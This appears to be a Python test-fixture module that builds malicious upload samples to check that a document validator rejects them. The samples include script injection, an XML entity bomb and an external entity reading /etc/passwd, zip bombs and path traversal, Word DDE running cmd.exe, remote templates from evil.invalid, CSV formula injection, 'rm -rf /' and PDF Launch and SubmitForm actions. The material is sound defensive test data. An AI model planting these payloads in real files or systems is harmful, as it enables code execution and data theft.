"""The hostile corpus: each file, the name it comes with, and a piece of the sentence that its sender reads."""

import struct
import zipfile

from tests.unit.documents import corpus_parts as parts

_TYPES_MACRO = parts.WORD_TYPES.replace("document.main+xml", "document.macroEnabled.main+xml").replace(
    "openxmlformats-officedocument.wordprocessingml", "ms-word")
_ZEROS = bytes(30 * 1024 * 1024)
_XLINK = 'xmlns:x="http://www.w3.org/1999/xlink"'


def _bomb_xml():
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a0 "ha">{entities}]><w>&a9;</w>'


def _symlink():
    entry = zipfile.ZipInfo("word/link")
    entry.external_attr = 0o120777 << 16
    return parts.word((entry, "/etc/passwd"))


def _lying_zip():
    """The list says that an entry is small; what is packed is not."""
    data = bytearray(parts.packed([*_word_entries(), ("word/media/a.bin", _ZEROS)]))
    place = data.rfind(b"PK\x01\x02")
    data[place + 24:place + 28] = struct.pack("<L", 10)
    return bytes(data)


def _locked_zip():
    data = bytearray(parts.word())
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(sign)
        data[start + offset] |= 1
    return bytes(data)


def _word_entries():
    return [("[Content_Types].xml", parts.WORD_TYPES), ("word/document.xml", "<w/>")]


def _field(*pieces):
    return "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)


def _raw(data):
    return lambda: data


HOSTILE = {
    # two kinds at once, wrong endings (AC-18)
    "pdf-with-page-in-front": ("a.pdf", _raw(b"<html><script>alert(1)</script>\n" + parts.pdf()), "Web pages"),
    "pdf-with-page-behind-header": ("a.pdf", lambda: parts.pdf().replace(
        b"%PDF-1.7\n", b"%PDF-1.7\n<script>alert(1)</script>\n", 1), "something else"),
    "pdf-with-zip-behind": ("a.pdf", lambda: parts.pdf(tail=parts.packed([("a", "b")]) + b"%%EOF"), "something else"),
    "zip-with-pdf-name": ("a.pdf", parts.word, "not what is inside"),
    "gif-with-script": ("a.gif", _raw(b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)"), "JPG or PNG"),
    "gif-named-jpg": ("a.jpg", _raw(b"GIF89a" + bytes(30)), "JPG or PNG"),
    "page-named-png": ("a.png", _raw(b"<html><body>hi</body></html>"), "Web pages"),
    "program-named-pdf": ("a.pdf", _raw(b"MZ" + bytes(200)), "program"),
    "program-named-docx": ("a.docx", _raw(b"MZ" + bytes(200)), "program"),
    "linux-program-named-jpg": ("a.jpg", _raw(b"\x7fELF" + bytes(200)), "program"),
    "jpg-named-pdf": ("a.pdf", parts.picture, "not what is inside"),
    "pdf-named-jpg": ("a.jpg", parts.pdf, "not what is inside"),
    "double-ending": ("letter.pdf.exe", _raw(b"MZ" + bytes(200)), "program"),
    "hidden-ending": ("letter\u202efdp.exe", _raw(b"MZ" + bytes(200)), "program"),
    "no-ending": ("letter", parts.pdf, "can’t take this kind"),
    "text-that-is-a-page": ("a.txt", _raw(b"  <!DOCTYPE html><script>alert(1)</script>"), "Web pages"),
    "text-that-is-a-drawing": ("a.txt", _raw(b"<svg onload=alert(1)>"), "Web pages"),
    "text-with-nul": ("a.txt", _raw(b"hello\x00world"), "not what is inside"),
    "text-that-is-rtf": ("a.txt", _raw(b"{\\rtf1 hello}"), "not what is inside"),
    "text-that-is-a-script": ("a.txt", _raw(b"#!/bin/sh\nrm -rf /"), "not what is inside"),
    "text-that-is-pdf": ("a.txt", parts.pdf, "not what is inside"),
    "text-in-no-code": ("a.txt", _raw(b"\xff\xfe\x00\xd8\x00"), "not what is inside"),
    "empty": ("a.pdf", _raw(b""), "empty"),
    # too large (AC-19)
    "over-the-limit": ("a.pdf", _raw(b"%PDF-" + bytes(21 * 1024 * 1024)), "larger than 20 MB"),
    "bomb-ratio": ("a.docx", lambda: parts.word(("word/media/a.bin", _ZEROS)), "too complicated"),
    "bomb-total": ("a.docx", lambda: parts.packed(
        [*_word_entries(), *((f"word/media/{n}.bin", _ZEROS) for n in range(8))]), "too complicated"),
    "bomb-entries": ("a.docx", lambda: parts.packed(
        [*_word_entries(), *((f"word/{n}.xml", "") for n in range(1000))]), "too complicated"),
    "bomb-that-lies": ("a.docx", _lying_zip, "damaged"),
    "bomb-entities": ("a.docx", lambda: parts.word(("word/styles.xml", _bomb_xml())), "damaged"),
    "bomb-entities-odt": ("a.odt", lambda: parts.odt(content=_bomb_xml()), "damaged"),
    "bomb-outside-entity": ("a.docx", lambda: parts.word(("word/styles.xml", (
        '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'))), "damaged"),
    "deep-xml": ("a.docx", lambda: parts.word(("word/deep.xml", "<a>" * 5000 + "</a>" * 5000)), "damaged"),
    "zip-in-zip": ("a.docx", lambda: parts.word(
        ("word/media/a.png", parts.packed([("x", "y")]))), "packed file inside"),
    "zip-in-odt": ("a.odt", lambda: parts.odt(("Pictures/a.png", parts.packed([("x", "y")]))), "packed file inside"),
    "rar-in-word": ("a.docx", lambda: parts.word(("word/media/a.png", b"Rar!\x1a\x07")), "packed file inside"),
    "zip-itself": ("a.zip", lambda: parts.packed([("x", "y")]), "unpack"),
    "zip-with-symlink": ("a.docx", _symlink, "damaged"),
    "zip-that-climbs": ("a.docx", lambda: parts.word(("../../etc/cron.d/x", "y")), "damaged"),
    "zip-with-root-path": ("a.docx", lambda: parts.word(("/etc/x", "y")), "damaged"),
    "zip-with-twins": ("a.docx", lambda: parts.word(("WORD/document.xml", "<w/>")), "damaged"),
    "zip-with-password": ("a.docx", _locked_zip, "password"),
    "zip-with-tail": ("a.docx", lambda: parts.word() + b"MZ more", "damaged"),
    "zip-with-broken-list": ("a.docx", lambda: parts.word().replace(b"PK\x01\x02", b"PK\x07\x02"), "damaged"),
    "zip-cut-off": ("a.docx", lambda: parts.word()[:-40], "damaged"),
    "zip-of-nothing": ("a.docx", lambda: parts.packed([("x", "y")]), "not what is inside"),
    "huge-picture": ("a.png", lambda: parts.png_that_claims(30_000, 30_000), "50 million"),
    "huge-photo": ("a.jpg", lambda: parts.picture(size=(8000, 7000), mode="L"), "50 million"),
    "picture-cut-off": ("a.jpg", lambda: parts.picture(size=(400, 400))[:300], "damaged"),
    "picture-of-noise": ("a.png", _raw(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8), "damaged"),
    # Word and OpenDocument that run or fetch (AC-20)
    "word-macro-part": ("a.docx", lambda: parts.word(("word/vbaProject.bin", b"x")), "macros"),
    "word-macro-type": ("a.docx", lambda: parts.word(types=_TYPES_MACRO), "macros"),
    "word-macro-renamed": ("a.docx", lambda: parts.word(("word/x.bin", b"x"), types=parts.WORD_TYPES.replace(
        "<Default ", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default ')), "macros"),
    "word-macro-relation": ("a.docx", lambda: parts.word(
        rels=parts.relation("vbaProject", "x.bin", "Internal")), "macros"),
    "word-macro-name": ("a.docm", parts.word, "macros"),
    "word-template-elsewhere": ("a.docx", lambda: parts.word(
        rels=parts.relation("attachedTemplate", "https://evil.invalid/a.dotm")), "from elsewhere"),
    "word-picture-elsewhere": ("a.docx", lambda: parts.word(
        rels=parts.relation("image", "https://evil.invalid/pixel.png")), "from elsewhere"),
    "word-ole": ("a.docx", lambda: parts.word(("word/embeddings/oleObject1.bin", b"x")), "another file inside"),
    "word-ole-relation": ("a.docx", lambda: parts.word(
        rels=parts.relation("oleObject", "x.bin", "Internal")), "another file inside"),
    "word-sheet-inside": ("a.docx", lambda: parts.word(("word/embeddings/a.xlsx", b"x")), "another file inside"),
    "word-active-x": ("a.docx", lambda: parts.word(("word/activeX/activeX1.xml", "<x/>")), "another file inside"),
    "word-page-chunk": ("a.docx", lambda: parts.word(body='<w:altChunk r:id="r1"/>'), "another file inside"),
    "word-dde": ("a.docx", lambda: parts.word(
        body=_field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')), "fetch or run"),
    "word-dde-in-pieces": ("a.docx", lambda: parts.word(body=_field("DD", "EAU", "TO", " cmd")), "fetch or run"),
    "word-include": ("a.docx", lambda: parts.word(
        body='<w:fldSimple w:instr="INCLUDETEXT http://evil.invalid/x"/>'), "fetch or run"),
    "old-word": ("a.doc", _raw(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)), "old kind"),
    "locked-word": ("a.docx", _raw(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)), "password"),
    "broken-word-xml": ("a.docx", lambda: parts.word(("word/styles.xml", "<w><w>")), "damaged"),
    "rtf": ("a.rtf", _raw(b"{\\rtf1{\\object\\objdata 01}}"), "RTF"),
    "odt-macro": ("a.odt", lambda: parts.odt(("Basic/Standard/Module1.xml", "<m/>")), "macros"),
    "odt-listener": ("a.odt", lambda: parts.odt(content='<d xmlns:s="s"><s:event-listener/></d>'), "macros"),
    "odt-dde": ("a.odt", lambda: parts.odt(content='<d xmlns:t="t"><t:dde-connection-decl/></d>'), "fetch or run"),
    "odt-object": ("a.odt", lambda: parts.odt(content='<d xmlns:t="t"><t:object-ole/></d>'), "another file inside"),
    "odt-strange-part": ("a.odt", lambda: parts.odt(("Object 1", b"x")), "another file inside"),
    "odt-picture-elsewhere": ("a.odt", lambda: parts.odt(
        content=f'<image {_XLINK} x:href="https://evil.invalid/p.png"/>'), "from elsewhere"),
    "odt-wrong-type": ("a.odt", lambda: parts.odt(kind="application/vnd.oasis.opendocument.spreadsheet"),
                       "not what is inside"),
    "spreadsheet": ("a.xlsx", lambda: parts.packed([("xl/workbook.xml", "<x/>")]), "spreadsheets"),
    "comma-list": ("a.csv", _raw(b"=cmd|'/k calc'!A1,2"), "spreadsheets"),
    # drawings and pages (AC-21)
    "svg-script": ("a.svg", _raw(b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"), "SVG"),
    "svg-named-png": ("a.png", _raw(b"<svg xmlns='http://www.w3.org/2000/svg'><foreignObject/></svg>"), "SVG"),
    "page": ("a.html", _raw(b"<html><script>alert(1)</script></html>"), "Web pages"),
    "saved-mail": ("a.eml", _raw(b"From: x@example.org\n\nhi"), "forward"),
    "iphone-photo": ("a.heic", _raw(b"\x00\x00\x00\x18ftypheic" + bytes(40)), "iPhone"),
    "iphone-photo-named-jpg": ("a.jpg", _raw(b"\x00\x00\x00\x18ftypheic" + bytes(40)), "iPhone"),
    # PDF that runs, opens, hides or is locked (AC-22)
    "pdf-script": ("a.pdf", lambda: parts.pdf(
        "<< /S /JavaScript /JS (app.alert\\(1\\)) >>", catalogue="/OpenAction 4 0 R"), "program"),
    "pdf-script-escaped": ("a.pdf", lambda: parts.pdf(
        "<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>", catalogue="/OpenAction 4 0 R"), "program"),
    "pdf-script-packed": ("a.pdf", lambda: parts.pdf_with_packed_objects(
        "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), "program"),
    "pdf-script-unlisted": ("a.pdf", lambda: parts.pdf("<< /S /JavaScript /JS (x) >>"), "program"),
    "pdf-script-by-library": ("a.pdf", lambda: parts.scripted_pdf(), "program"),
    "pdf-launch": ("a.pdf", lambda: parts.pdf(
        "<< /S /Launch /F (cmd.exe) >>", catalogue="/OpenAction 4 0 R"), "opens other files"),
    "pdf-launch-packed": ("a.pdf", lambda: parts.pdf_with_packed_objects("<< /S /Launch /F (cmd.exe) >>"),
                          "opens other files"),
    "pdf-goes-elsewhere": ("a.pdf", lambda: parts.pdf(
        "<< /S /GoToR /F (\\\\\\\\evil\\\\share) >>", catalogue="/OpenAction 4 0 R"), "opens other files"),
    "pdf-sends-form": ("a.pdf", lambda: parts.pdf(
        "<< /S /SubmitForm /F (http://evil.invalid) >>", catalogue="/OpenAction 4 0 R"), "opens other files"),
    "pdf-file-link": ("a.pdf", lambda: parts.pdf(
        "<< /S /URI /URI (file:///c:/windows/cmd.exe) >>", catalogue="/OpenAction 4 0 R"), "opens other files"),
    "pdf-attachment": ("a.pdf", lambda: parts.pdf_with(
        lambda w: w.add_attachment("a.exe", b"MZ")), "other files inside"),
    "pdf-attachment-note": ("a.pdf", lambda: parts.pdf_with_packed_objects(
        "<< /S /GoTo /A << /Subtype /FileAttachment /Rect [0 0 1 1] >> >>"), "other files inside"),
    "pdf-attachment-packed": ("a.pdf", lambda: parts.pdf_with_packed_objects(
        "<< /S /GoTo /A << /Type /EmbeddedFile >> >>"), "other files inside"),
    "pdf-form-packed": ("a.pdf", lambda: parts.pdf_with_packed_objects("<< /XFA (x) >>"), "old kind of form"),
    "pdf-rich-media": ("a.pdf", lambda: parts.pdf_with_packed_objects(
        "<< /S /GoTo /A << /Subtype /RichMedia /Rect [0 0 1 1] >> >>"), "other files inside"),
    "pdf-outside-stream": ("a.pdf", lambda: parts.pdf(
        "<< /Length 1 /F (x) >>\nstream\nx\nendstream", catalogue="/Metadata 4 0 R"), "opens other files"),
    "pdf-old-form": ("a.pdf", lambda: parts.pdf(catalogue="/AcroForm << /XFA (x) >>"), "old kind of form"),
    "pdf-locked": ("a.pdf", parts.locked_pdf, "password"),
    "pdf-cut-off": ("a.pdf", lambda: parts.pdf()[:60], "damaged"),
    "pdf-without-pages": ("a.pdf", _raw(b"%PDF-1.7\ntrailer << /Size 1 >>\n%%EOF"), "damaged"),
    "pdf-of-noise": ("a.pdf", _raw(b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF"), "damaged"),
    "pdf-in-a-ring": ("a.pdf", lambda: parts.pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"), "damaged"),
    # sounds
    "film-named-m4a": ("a.m4a", lambda: parts.m4a(handler=b"vide"), "videos"),
    "film": ("a.mp4", parts.m4a, "videos"),
    "m4a-with-tail": ("a.m4a", lambda: parts.m4a(tail=b"MZ program"), "damaged"),
    "m4a-of-noise": ("a.m4a", _raw(b"\x00\x00\x00\x1cftypM4A " + bytes(16) + bytes(range(200))), "damaged"),
    "m4a-without-sound": ("a.m4a", _raw(parts.box(b"ftyp", b"M4A " + bytes(16))), "damaged"),
    "m4a-with-crumbs": ("a.m4a", lambda: parts.m4a(tail=b"\0\0\0"), "damaged"),
    "mp3-too-short": ("a.mp3", lambda: parts.mp3(2), "not what is inside"),
    "mp3-of-noise": ("a.mp3", _raw(b"\xff\xfb\x90\x00" + bytes(range(256)) * 60), "not what is inside"),
    "mp3-that-is-a-program": ("a.mp3", lambda: parts.id3(b"x" * 20) + b"MZ" + bytes(9000), "not what is inside"),
    "wave": ("a.wav", _raw(b"RIFF" + bytes(40)), "M4A or MP3"),
}

HONEST = {
    "letter.pdf": parts.pdf, "report.docx": parts.honest_docx, "small.docx": parts.word,
    "linked.docx": lambda: parts.word(
        body=_field('HYPERLINK "https://area.invalid/link/database"'),
        rels=parts.relation("hyperlink", "https://area.invalid")),
    "note.odt": lambda: parts.odt(("Pictures/a.png", parts.picture("PNG")), ("META-INF/manifest.xml", "<m/>"),
                                  content=f'<d {_XLINK}><a x:href="https://area.invalid"/></d>'),
    "note.txt": lambda: "Sam’s own words".encode("cp1252"), "wide.txt": lambda: "Sam’s own words".encode("utf-16"),
    "photo.JPEG": parts.placed_photo, "screen.png": lambda: parts.picture("PNG", mode="RGBA"),
    "old.png": lambda: parts.picture("PNG", mode="P", transparency=0),
    "print.jpg": lambda: parts.picture(mode="CMYK"), "grey.jpg": lambda: parts.picture(mode="L"),
    "note.m4a": parts.m4a, "note.mp3": parts.mp3,
    "linked.pdf": lambda: parts.pdf("<< /S /URI /URI (https://area.invalid) >>", catalogue="/OpenAction 4 0 R"),
}
